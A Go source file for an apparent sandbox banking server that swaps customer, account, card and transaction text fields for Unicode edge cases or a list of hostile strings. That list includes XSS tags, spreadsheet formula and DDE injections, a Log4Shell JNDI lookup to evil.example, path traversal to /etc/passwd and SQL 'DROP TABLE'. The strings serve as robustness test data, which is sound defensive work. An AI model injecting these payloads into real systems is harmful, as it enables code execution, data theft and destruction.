package scenario

import (
	"slices"
	"strings"

	"aisdesk/localserver/sandbox/bank"
)

// unicodeTexts are honest texts that are hard to lay out.
var unicodeTexts = []string{
	"Zażółć gęślą jaźń", "Příliš žluťoučký kůň úpěl", "Ångström & Çelik GmbH", "株式会社サンプル銀行", "김민준 급여", "Ελληνική Τράπεζα",
	"Счёт № 40817", "بنك الاختبار", "חשבון בדיקה", "e\u0301te\u0301 a\u0308 n\u0303", "👩\u200d👩\u200d👧 rodzina 🇵🇱", "ﬁnance ½ ‰ €", "İstanbul ıI", "ﾊﾝｶｸ ｶﾅ", "ไทยพาณิชย์", "ßẞ ǅ ŉ",
}

// hostileTexts attack whoever shows, exports or parses them. They are all characters that XML 1.0 allows.
var hostileTexts = []string{
	`<script>alert(document.domain)</script>`, `"><img src=x onerror=alert(1)>`, `]]> &amp; &lt; &#x1b;[31m`, `=HYPERLINK("http://evil.example","click")`,
	"+48 600 000 000 |calc", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "＝1+1", "\t=1+1", "\u009b31mred\u009b0m", "\u009d0;title\u009c", "\u202eDEBIRCS\u202c \u2066x\u2069", "pay\u200bpal\u2060\ufeff",
	"Z" + strings.Repeat("\u0301", 60) + "algo", "line one\nline two\r\nline three", "a\u2028b\u2029c\u0085d", strings.Repeat("W", 3000), strings.Repeat("漢", 500), "../../../../etc/passwd", "%s%n%x {{.}} ${jndi:ldap://evil.example/a}",
	"'; DROP TABLE imports; --", "\u0000NUL \u001b[2J ESC as the letters \\u001b[2J", "file:///etc/passwd", "\ufffe\uffff\U0010ffff", "   spaces   around   ",
}

// Rewrite makes a customer with the scenario's texts; without any it is the same customer.
func (e *Behaviour) Rewrite(c *bank.Customer) *bank.Customer {
	switch e.text {
	case "unicode":
		return (&rewriter{texts: unicodeTexts}).rewrite(c)
	case "hostile":
		return (&rewriter{texts: hostileTexts, codes: true}).rewrite(c)
	}
	return c
}

// rewriter replaces texts, going through its own in turn.
type rewriter struct {
	texts []string
	codes bool // replace numbers of people and documents, kinds and symbols too
	n     int
}

func (w *rewriter) text(fields ...*string) {
	for _, s := range fields {
		if *s != "" {
			*s = w.texts[w.n%len(w.texts)]
			w.n++
		}
	}
}

func (w *rewriter) code(fields ...*string) {
	if w.codes {
		w.text(fields...)
	}
}

// rewrite makes a customer with other texts. What programs reckon with stays: amounts, dates, currencies, states and
// the accounts' own numbers.
func (w *rewriter) rewrite(c *bank.Customer) *bank.Customer {
	cut := *c
	cut.Owners = w.owners(c.Owners)
	cut.Accounts = slices.Clone(c.Accounts)
	for i := range cut.Accounts {
		a := &cut.Accounts[i]
		w.text(&a.Name, &a.FriendlyName)
		a.Owners, a.Transactions = w.owners(a.Owners), w.rows(a.Transactions)
	}
	cut.Cards = slices.Clone(c.Cards)
	for i := range cut.Cards {
		k := &cut.Cards[i]
		w.text(&k.Name)
		w.code(&k.ID, &k.Number)
		k.Owners, k.Transactions = w.owners(k.Owners), w.rows(k.Transactions)
	}
	return &cut
}

func (w *rewriter) owners(list []bank.Owner) []bank.Owner {
	list = slices.Clone(list)
	for i := range list {
		o := &list[i]
		w.text(&o.Name, &o.Address, &o.BirthPlace)
		w.code(&o.Kind, &o.PESEL, &o.NIP, &o.REGON, &o.Phone, &o.Email, &o.Citizenship, &o.Nationality, &o.DocumentType, &o.DocumentNumber, &o.BirthDate)
	}
	return list
}

func (w *rewriter) rows(list []bank.Transaction) []bank.Transaction {
	list = slices.Clone(list)
	for i := range list {
		t := &list[i]
		w.text(&t.Title, &t.Party)
		w.code(&t.Kind, &t.PartyIBAN, &t.VariableSymbol, &t.ConstantSymbol)
		t.Labels = slices.Clone(t.Labels)
		for j := range t.Labels {
			w.code(&t.Labels[j])
		}
	}
	return list
}
